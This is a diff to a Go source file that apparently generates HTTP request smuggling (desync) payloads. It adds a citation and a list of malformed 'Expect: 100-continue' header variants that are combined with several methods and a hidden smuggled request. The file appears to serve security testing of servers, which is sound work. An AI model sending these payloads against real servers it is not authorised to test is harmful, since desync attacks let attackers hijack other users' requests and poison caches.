@@ -21,7 +21,7 @@ type payload struct{ name, raw string }
 // "Browser-Powered Desync Attacks" (2022) and the tool HTTP Request Smuggler;
 // Klein, "HTTP Request Smuggling in 2020"; Jabiyev et al., "T-Reqs" (2021);
 // Grenfeldt et al., "Attacking Websites Using HTTP Request Smuggling" (2021);
-// w4ke, "Funky chunks" (2025).
+// w4ke, "Funky chunks" (2025); Kettle, "HTTP/1.1 must die" (2025).
 func payloads(host string) []payload {
 	var all []payload
 	here := func(s string) string { return strings.ReplaceAll(s, "HOST", host) }
@@ -66,6 +66,13 @@ func payloads(host string) []payload {
 		add("head "+field, post(field+length, "0\r\n\r\n"+hidden))
 		add("head chunked "+field, post(field+"Transfer-Encoding: chunked\r\n", "0\r\n\r\n"+hidden))
 	}
+	// Who waits for a 100 may take the content for no part of the request, or the
+	// 100 for its answer.
+	for _, expect := range expectations {
+		for _, method := range []string{"GET", "HEAD", "OPTIONS", "POST"} {
+			add(method+" "+expect, method+" http://HOST/outer HTTP/1.1\r\nHost: HOST\r\n"+expect+"\r\n"+length+"\r\n0\r\n\r\n"+hidden)
+		}
+	}
 	return all
 }
 
@@ -94,6 +101,13 @@ var contentLengths = []string{
 	"Content-Length: 18446744073709551621", "Content-Length: 9223372036854775813", "Content-Length: 4294967301", "content-length: 5", "Content_Length: 5",
 	"Content-Length: 5 6", "Content-Length: five", "Content-Length: \xd9\xa5", "Content-Length: 5\nX: y", "Content-Length: 5\rX: y", " Content-Length: 5",
 	"X: y\n\nContent-Length: 5", "Content-Length\xa0: 5", "Content-Length: 1 0", "Content-Length: 000000000000000000000000005", "Content-Length:\r\n 5",
+}
+
+var expectations = []string{
+	"Expect: 100-continue", "Expect: 100-Continue", "Expect:100-continue", "Expect:\t100-continue", "Expect: 100-continue\t", "Expect:\r\n 100-continue", "Expect:\n 100-continue",
+	"Expect : 100-continue", " Expect: 100-continue", "Expect: y 100-continue", "Expect: 100-continue, 100-continue", "Expect: 100-continue\r\nExpect: 100-continue", "Expect: 100-continue;a=b",
+	"Expect: \"100-continue\"", "Expect: 100-continue\x00", "Expect: 99-continue", "Expect:", "X: y\nExpect: 100-continue", "X: y\rExpect: 100-continue", "Expect_: 100-continue",
+	"Content-Length: \r\n 5\r\nExpect: 100-continue", "Expect: 100-continue\r\nConnection: Expect", "Expect: 100-continue\r\nConnection: close",
 }
 
 // Sizes, extensions and ends of chunks.
